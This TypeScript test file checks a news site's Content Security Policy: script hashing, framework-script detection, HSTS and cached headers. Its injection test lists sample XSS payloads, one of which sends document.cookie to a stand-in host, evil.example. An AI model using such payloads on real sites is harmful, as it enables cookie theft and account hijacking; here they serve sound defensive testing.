// The public site's policy: the hash of what the browser hashes, which inline scripts and styles get one (React's and
// Next's, rendered here by the very React build Next uses; never one injected into a page), the https decision, and
// the headers on pages answered by the real plain-HTML wrapper and front cache, first rendered and then from memory.
import { readFileSync } from "node:fs";
import type { Server } from "node:http";
import { runInNewContext } from "node:vm";
import { afterEach, describe, expect, it } from "vitest";
import { createFrontCache } from "./front-cache.ts";
import { servePlainHtml } from "./plain-html.ts";
import {
  contentSecurityPolicy,
  decodeStringLiteral,
  hashSource,
  inlineSourceHashes,
  isFrameworkScript,
  isHttpsOrigin,
  reactRuntimeSnippets,
  securityHeaders,
  siteSecurity,
  type PageSources,
} from "./security-headers.ts";
import { renderStreamed } from "./streamed-page.ts";
import { listen } from "./test-http.ts";
import { BREAKING_BANNER_SCRIPT } from "../src/lib/breaking-banner-script.ts";

const REACT_RUNTIME = reactRuntimeSnippets();
const STYLESHEET = "@layer base{body{margin:0}}\n";
const SOURCES: PageSources = { reactRuntime: REACT_RUNTIME, stylesheets: new Set([hashSource(STYLESHEET)]) };
const ARTICLE_HTML = readFileSync(new URL("./fixtures/article-ar.html", import.meta.url), "utf8");

const executableScripts = (html: string) =>
  [...html.matchAll(/<script(?![^>]*\b(?:src|type)=)[^>]*>([\s\S]*?)<\/script>/g)].map((match) => match[1]!);

describe("hashSource", () => {
  it("is the CSP hash source of the text (the example of the CSP specification)", () => {
    expect(hashSource("alert('Hello, world.');")).toBe("'sha256-qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng='");
  });

  it("hashes newlines as the HTML parser passes them on: CR LF and CR become LF", () => {
    expect(hashSource("a\r\nb\rc")).toBe(hashSource("a\nb\nc"));
    expect(hashSource("a\nb")).not.toBe(hashSource("ab"));
  });

  it("hashes UTF-8 bytes", () => {
    expect(hashSource("منبر")).toBe("'sha256-n4TmDo9D63X9IyHpKberjlXxIE3DdPyzP+LZsNUHFQY='");
  });
});

describe("which inline scripts and styles are allowed", () => {
  it("allows the breaking-news banner's script by its hash, and not an altered copy of it", () => {
    const page = (script: string) =>
      `<html><body><div id="breaking-news"><script>${script}</script></div></body></html>`;
    expect(inlineSourceHashes(page(BREAKING_BANNER_SCRIPT), SOURCES).scripts).toEqual([
      hashSource(BREAKING_BANNER_SCRIPT),
    ]);
    expect(inlineSourceHashes(page(`${BREAKING_BANNER_SCRIPT}alert(1);`), SOURCES).scripts).toEqual([]);
  });

  it("reads string literals' escapes as JavaScript does", () => {
    for (const literal of [
      String.raw`'$RS=function(a,b){a.data="$~"};$RS("'`,
      String.raw`"\x3c!--\u0026--\x3e \' \" \\ \n\t\0 \u{1F4F0} \q"`,
      String.raw`'a\
b'`,
    ])
      expect(decodeStringLiteral(literal.slice(1, -1))).toBe(runInNewContext(literal));
  });

  it("reads React's runtime from the build Next renders with", () => {
    for (const name of ["$RC", "$RS", "$RX", "$RR"])
      expect(REACT_RUNTIME.some((snippet) => snippet.includes(`${name}=function`))).toBe(true);
    expect(REACT_RUNTIME).toContain("requestAnimationFrame(function(){$RT=performance.now()});");
  });

  it("hashes each streaming script React writes, and nothing else", async () => {
    const html = await renderStreamed();
    const scripts = executableScripts(html);
    // The fixture holds each of React's instructions, so their presence below means something.
    for (const call of ['$RC("B:0","S:0")', '$RR("B:1","S:1",[["/late.css","default"]])', '$RX("B:2","digest"'])
      expect(html).toContain(call);
    expect(scripts.length).toBeGreaterThanOrEqual(2);
    const { scripts: hashes } = inlineSourceHashes(html, SOURCES);
    expect(hashes).toEqual(scripts.map(hashSource));
  });

  it("hashes Next's inline scripts in a page that keeps its client runtime", () => {
    const scripts = executableScripts(ARTICLE_HTML);
    expect(scripts.some((text) => text.startsWith("self.__next_f.push([1,"))).toBe(true);
    expect(scripts.some((text) => text.startsWith('(globalThis["TURBOPACK"]'))).toBe(true);
    expect(inlineSourceHashes(ARTICLE_HTML, SOURCES).scripts).toEqual([...new Set(scripts.map(hashSource))]);
  });

  it("refuses a script injected into a page, however it imitates the framework's", () => {
    const injected = [
      "alert(1)",
      '$RC=function(a,b){fetch("//evil.example/"+document.cookie)};$RC("B:0","S:0")',
      '$RC("B:0",alert(1))',
      '$RC("B:0","S:0");alert(1)',
      '$RC("B:0","S:0"+alert(1))',
      '$RC("B:0",`${alert(1)}`)',
      `${REACT_RUNTIME[0]}alert(1)`,
      "self.__next_f.push(alert(1))",
      'self.__next_f.push([1,"x"]);alert(1)',
      'self.__next_f.push([1,{"toString":"x"}])',
      '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push(alert(1));',
      "",
    ];
    for (const text of injected) expect(isFrameworkScript(text, REACT_RUNTIME), text).toBe(false);
    const page = `<html><body><p>text</p>${injected.map((text) => `<script>${text}</script>`).join("")}</body></html>`;
    expect(inlineSourceHashes(page, SOURCES).scripts).toEqual([]);
  });

  it("needs no hash for JSON-LD, data blocks or scripts loaded from a file", () => {
    const page =
      '<script type="application/ld+json">{"@type":"NewsArticle"}</script>' +
      '<script type="application/json">$RC("B:0","S:0")</script>' +
      '<script src="/_next/static/chunks/a.js">$RC("B:0","S:0")</script>' +
      '<script type="module">$RC("B:1","S:1")</script>';
    expect(inlineSourceHashes(page, SOURCES).scripts).toEqual([hashSource('$RC("B:1","S:1")')]);
  });

  it("allows the build's stylesheets inlined by Next, and no other inline style", () => {
    const page =
      `<style data-precedence="next" data-href="/_next/static/chunks/a.css">${STYLESHEET}</style>` +
      `<style>body{background:url(//evil.example/x)}</style><style data-precedence="next">${STYLESHEET}x</style>`;
    expect(inlineSourceHashes(page, SOURCES).styles).toEqual([hashSource(STYLESHEET)]);
  });
});

describe("the https decision", () => {
  it("follows the configured origin only", () => {
    expect(isHttpsOrigin("https://minbar.example")).toBe(true);
    expect(isHttpsOrigin("https://minbar.example:8443/")).toBe(true);
    expect(isHttpsOrigin("http://minbar.example")).toBe(false);
    expect(isHttpsOrigin("http://localhost:3000")).toBe(false);
    expect(isHttpsOrigin(undefined)).toBe(false);
    expect(isHttpsOrigin("")).toBe(false);
  });

  it("sends Strict-Transport-Security and upgrades requests only over https", () => {
    const overHttps = securityHeaders({ https: true, scriptFiles: false });
    expect(overHttps["strict-transport-security"]).toBe("max-age=31536000");
    expect(overHttps["content-security-policy"]).toMatch(/; upgrade-insecure-requests$/);
    expect(overHttps["content-security-policy"]).toContain("img-src 'self' data: https:;");
    const overHttp = securityHeaders({ https: false, scriptFiles: false });
    expect(overHttp).not.toHaveProperty("strict-transport-security");
    expect(overHttp["content-security-policy"]).not.toContain("upgrade-insecure-requests");
  });

  it("allows script files only while pages keep Next's runtime, and never eval, inline code or another origin", () => {
    const hash = hashSource('$RC("B:0","S:0")');
    expect(contentSecurityPolicy({ https: false, scriptFiles: false })).toContain("script-src 'none';");
    expect(contentSecurityPolicy({ https: false, scriptFiles: false, scripts: [hash] })).toContain(
      `script-src ${hash};`,
    );
    const withRuntime = contentSecurityPolicy({ https: false, scriptFiles: true, scripts: [hash] });
    expect(withRuntime).toContain(`script-src 'self' ${hash};`);
    for (const policy of [withRuntime, contentSecurityPolicy({ https: true, scriptFiles: true })]) {
      expect(policy).not.toMatch(/unsafe-eval|unsafe-inline|\*|https?:\/\//);
      expect(policy).toContain("frame-ancestors 'none'");
    }
  });
});

describe("a feed's policy", () => {
  it("lets a feed load its XSL stylesheet from the site (script-src 'self'), and nothing inline", () => {
    const security = siteSecurity({ https: false, scriptFiles: false, distDir: "/nonexistent" });
    const policyOf = (url: string) => {
      const headers = new Map<string, string>();
      security.apply({ setHeader: (name: string, value: string) => headers.set(name, value) } as never, url);
      return headers.get("content-security-policy") ?? "";
    };
    for (const url of ["/feed.xml", "/ru/feed.xml", "/sources/tass/feed.xml", "/en/tags/x/feed.xml?utm=1"]) {
      expect(policyOf(url)).toContain("script-src 'self';");
      expect(policyOf(url)).toContain("style-src 'self';");
    }
    for (const url of ["/", "/news/1/feed-xml", "/feed.xsl", "/search?q=/feed.xml"])
      expect(policyOf(url)).toContain("script-src 'none';");
  });
});

describe("headers on the pages the server sends", () => {
  let server: Server | undefined;
  afterEach(() => server?.close());

  it("a page's policy is computed from the page sent, stored with it and answered from the cache", async () => {
    const streamed = await renderStreamed();
    const page = streamed.replace("<head>", `<head><style data-precedence="next">${STYLESHEET}</style>`);
    let renders = 0;
    const policyFor = (html: string) =>
      contentSecurityPolicy({ https: false, scriptFiles: false, ...inlineSourceHashes(html, SOURCES) });
    const cache = createFrontCache({
      render: servePlainHtml(
        (_req, res) => {
          renders++;
          res.setHeader("content-type", "text/html; charset=utf-8");
          res.setHeader("cache-control", "s-maxage=31536000");
          res.end(page);
        },
        { contentSecurityPolicy: policyFor },
      ),
      compress: (_req, _res, next) => next(),
      maxBytes: 1024 * 1024,
    });
    const listening = await listen((req, res) => {
      res.setHeader("content-security-policy", contentSecurityPolicy({ https: false, scriptFiles: false }));
      cache.handle(req, res);
    });
    server = listening.server;
    const first = await listening.client("/");
    const second = await listening.client("/");
    expect([first.headers["x-cache"], second.headers["x-cache"], renders]).toEqual(["MISS", "HIT", 1]);
    const policy = first.headers["content-security-policy"];
    for (const text of executableScripts(first.body.toString("utf8"))) expect(policy).toContain(hashSource(text));
    expect(policy).toContain(`style-src 'self' ${hashSource(STYLESHEET)};`);
    expect(second.headers["content-security-policy"]).toBe(policy);
  });
});
